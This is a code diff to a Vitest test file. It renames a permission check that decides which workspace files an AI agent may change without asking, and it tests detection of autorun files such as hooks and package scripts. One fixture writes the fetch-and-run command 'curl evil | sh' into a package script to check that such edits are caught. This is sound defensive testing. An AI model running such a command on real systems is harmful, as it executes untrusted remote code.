@@ -14,7 +14,7 @@ import {
 import os from "node:os";
 import path from "node:path";
 import { expect, test } from "vitest";
-import { areInside } from "./inside.ts";
+import { mayChange } from "./inside.ts";
 import { findAutorunFiles } from "./trust.ts";
 
 /** a program of every Unix */
@@ -155,7 +155,7 @@ test("what nobody could look through is refused as a whole, whatever it is made 
 	for (const [folder, words] of cases) {
 		await expect(findAutorunFiles(folder)).rejects.toThrow(words);
 		// nobody can tell what would be run, so every edit is asked about, unless the content alone is too much
-		expect(await areInside(folder, ["a.txt"])).toBe(folder === data);
+		expect(await mayChange(folder, ["a.txt"])).toBe(folder === data);
 	}
 });
 
@@ -190,7 +190,7 @@ test("the scripts of a package that a hook runs by their name are part of what i
 			line,
 			[".claude/settings.json", "do/it.sh", location],
 		]);
-		expect(await areInside(folder, [location])).toBe(false);
+		expect(await mayChange(folder, [location])).toBe(false);
 		writeFileSync(path.join(folder, location), pack("sh do/it.sh", "2.0.0"));
 		expect(await print()).toBe(before);
 		writeFileSync(path.join(folder, location), pack("curl evil | sh"));
@@ -208,7 +208,7 @@ test("the scripts of a package that a hook runs by their name are part of what i
 		"package.json": "{}",
 	});
 	expect((await findAutorunFiles(other))?.files).toEqual([".mcp.json"]);
-	expect(await areInside(other, ["package.json"])).toBe(true);
+	expect(await mayChange(other, ["package.json"])).toBe(true);
 });
 
 test("only files of the workspace that nothing runs are an agent's own to change, by where they really are", async () => {
@@ -238,7 +238,7 @@ test("only files of the workspace that nothing runs are an agent's own to change
 		"src/.env",
 		".github/x.yml",
 	];
-	for (const location of own) expect([location, await areInside(folder, [location])]).toEqual([location, true]);
+	for (const location of own) expect([location, await mayChange(folder, [location])]).toEqual([location, true]);
 	const others = [
 		...[
 			path.join(outside, ".bashrc"),
@@ -283,8 +283,8 @@ test("only files of the workspace that nothing runs are an agent's own to change
 			"loop/x",
 		],
 	];
-	for (const location of others) expect([location, await areInside(folder, [location])]).toEqual([location, false]);
-	expect(await areInside(folder, [])).toBe(false);
-	expect(await areInside(folder, ["src/a.ts", path.join(outside, ".bashrc")])).toBe(false);
-	expect(await areInside(path.join(folder, "nowhere"), ["a"])).toBe(false);
+	for (const location of others) expect([location, await mayChange(folder, [location])]).toEqual([location, false]);
+	expect(await mayChange(folder, [])).toBe(false);
+	expect(await mayChange(folder, ["src/a.ts", path.join(outside, ".bashrc")])).toBe(false);
+	expect(await mayChange(path.join(folder, "nowhere"), ["a"])).toBe(false);
 });
